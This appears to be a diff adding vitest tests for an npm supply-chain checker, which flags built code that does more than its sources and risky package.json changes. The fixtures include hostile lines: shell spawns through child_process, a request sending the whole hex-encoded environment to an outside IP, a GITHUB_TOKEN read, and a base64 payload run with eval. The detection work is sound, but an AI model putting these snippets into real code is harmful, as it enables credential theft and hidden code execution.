@@ -1,0 +1,102 @@
+/**
+ * The two npm explainers on written variants: built code whose capabilities its sources name, or
+ * do not (each capability in shapes the end-to-end test does not use), and manifests changed the
+ * way publishing changes them, or the way an attacker does.
+ */
+import { describe, expect, it } from 'vitest'
+import { analyseJavaScript } from '../../src/npm/javascript.js'
+import { capabilityGaps, loadSourceCorpus } from '../../src/verify/explain/js-provenance.js'
+import { manifestChanges } from '../../src/verify/explain/npm-manifest.js'
+import { memoryView } from '../helpers/tree-view.js'
+
+const SOURCES = {
+  'src/client.ts': [
+    "import { request } from 'node:https'",
+    "import { spawn } from 'node:child_process'",
+    'export function get(path: string): Promise<string> {',
+    "  return new Promise((resolve) => request({ hostname: 'registry.example.org', path }, (res) => resolve(String(res.statusCode))).end())",
+    '}',
+    "export const open = (url: string) => spawn('xdg-open', [url], { stdio: 'ignore' })",
+    'export const mode = process.env.NODE_ENV',
+  ].join('\n'),
+}
+
+async function gaps(built: string, sources: Record<string, string> = SOURCES) {
+  const view = memoryView({}, sources)
+  const corpus = await loadSourceCorpus(Object.keys(sources), view)
+  return capabilityGaps(analyseJavaScript('dist/client.js', built), built, corpus)
+}
+
+describe('what built code does beyond its sources', () => {
+  it('finds nothing in code compiled from the sources, helpers and renamed locals included', async () => {
+    const built = [
+      '"use strict";',
+      'var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };',
+      'Object.defineProperty(exports, "__esModule", { value: true });',
+      'const node_https_1 = require("node:https");',
+      'const node_child_process_1 = require("node:child_process");',
+      'function get(p) { return new Promise((r) => (0, node_https_1.request)({ hostname: "registry.example.org", path: p }, (s) => r(String(s.statusCode))).end()); }',
+      'const open = (u) => (0, node_child_process_1.spawn)("xdg-open", [u], { stdio: "ignore" });',
+      'exports.mode = process.env.NODE_ENV;',
+      'var g = Function("return this")();',
+    ].join('\n')
+    expect(await gaps(built)).toEqual([])
+  })
+
+  it('finds a process launch through a module no source loads, in CommonJS and through the global require', async () => {
+    for (const line of ["require('child_process').execFileSync('/bin/sh', ['-c', 'id'])", "globalThis.process.mainModule.require('child_process').exec('id')"]) {
+      const found = await gaps(line, { 'src/a.ts': 'export const a = /x/.exec("y")\n' })
+      expect(found.map((g) => g.missing), line).toContain('child_process')
+    }
+  })
+
+  it('finds a request to a host no source names, even through a module the sources load', async () => {
+    const found = await gaps("require('node:https').get('https://198.51.100.23:8443/k?d=' + Buffer.from(JSON.stringify(process.env)).toString('hex'))")
+    expect(found.find((g) => g.kind === 'host')?.missing).toBe('198.51.100.23')
+    // the whole environment, where the sources read one variable of it: sent to a new host, critical
+    expect(found.find((g) => g.kind === 'credentials')).toBeDefined()
+    expect(found.every((g) => g.kind !== 'host' || g.critical)).toBe(true)
+  })
+
+  it('finds a read of a secret no source reads', async () => {
+    const found = await gaps('const t = process.env.GITHUB_TOKEN; module.exports = t')
+    expect(found).toEqual([expect.objectContaining({ kind: 'credentials', missing: 'GITHUB_TOKEN', critical: true })])
+  })
+
+  it('finds code decoded and run, and a data blob no source holds', async () => {
+    const blob = Buffer.from(`require("child_process").exec("id"); // ${'padding '.repeat(60)}`).toString('base64')
+    const found = await gaps(`const k = "${blob}";\neval(atob(k));\n`)
+    expect(found.map((g) => g.kind)).toEqual(expect.arrayContaining(['dynamic-code', 'encoded']))
+    expect(found.find((g) => g.kind === 'dynamic-code')?.critical).toBe(true)
+  })
+
+  it('finds an ES module import of a module no source names, and not one the sources import', async () => {
+    expect((await gaps("import { WebSocket } from 'ws'\nnew WebSocket('wss://registry.example.org')")).map((g) => g.missing)).toContain('ws')
+    expect(await gaps("import { request } from 'https'\nexport { request }")).toEqual([])
+  })
+})
+
+describe('a published package.json against the tag’s', () => {
+  const TAG = { name: 'x', version: '0.0.0-development', main: 'dist/index.js', scripts: { build: 'tsc', test: 'vitest' }, dependencies: { a: '^1.0.0' }, devDependencies: { vitest: '^2.0.0' }, prettier: { semi: false } }
+  const weigh = (artifact: Record<string, unknown>) => manifestChanges(TAG, artifact).map((c) => [c.field, c.severity])
+
+  it('weighs what publishing does as nothing: the version, dropped development fields, npm bookkeeping, key order', () => {
+    const { devDependencies: _d, prettier: _p, ...kept } = TAG
+    const published = { gitHead: '0123abc', ...kept, version: '3.1.0', scripts: { build: 'tsc' } }
+    expect(weigh(published).every(([, severity]) => severity === 'info')).toBe(true)
+    expect(weigh({ ...TAG, dependencies: { a: '^1.0.0' }, main: 'dist/index.js' })).toEqual([])
+  })
+
+  it('weighs install scripts as critical, but not prepare, which a registry install never runs', () => {
+    expect(weigh({ ...TAG, scripts: { ...TAG.scripts, preinstall: 'node x.js' } })).toEqual([['scripts.preinstall', 'critical']])
+    expect(weigh({ ...TAG, scripts: { ...TAG.scripts, prepare: 'node x.js' } })).toEqual([['scripts.prepare', 'low']])
+  })
+
+  it('weighs a new or changed dependency and a moved entry point as high, a dropped dependency as low', () => {
+    expect(weigh({ ...TAG, dependencies: { a: '^1.0.0', b: '1.0.0' } })).toEqual([['dependencies.b', 'high']])
+    expect(weigh({ ...TAG, dependencies: { a: 'github:someone/a' } })).toEqual([['dependencies.a', 'high']])
+    expect(weigh({ ...TAG, optionalDependencies: { c: '*' } })).toEqual([['optionalDependencies.c', 'high']])
+    expect(weigh({ ...TAG, exports: { '.': './dist/other.js' } })).toEqual([['exports', 'high']])
+    expect(weigh({ ...TAG, dependencies: {} })).toEqual([['dependencies.a', 'low']])
+  })
+})
